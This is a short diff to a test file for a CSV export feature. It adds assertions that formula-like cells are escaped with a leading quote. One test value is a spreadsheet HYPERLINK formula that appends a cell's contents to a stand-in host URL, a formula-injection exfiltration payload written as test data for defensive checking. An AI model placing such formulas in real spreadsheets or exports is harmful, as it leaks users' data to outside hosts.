@@ -268,6 +268,8 @@ describe.each(testDatabases())("the export on $name", (database) => {
     );
     const [, ...rows] = await csv(of.enrollmentId);
     expect(rows.map((row) => row[5])).toEqual(stored.map(harmless));
+    for (const formula of ['=HYPERLINK("https://example.com?"&A1,"here")', "-5"])
+      expect(rows.map((row) => row[5])).toContain(`'${formula}`);
   });
 
   test("has a column for each question of every version that was answered, the newest version's order and names first [list.export]", async () => {
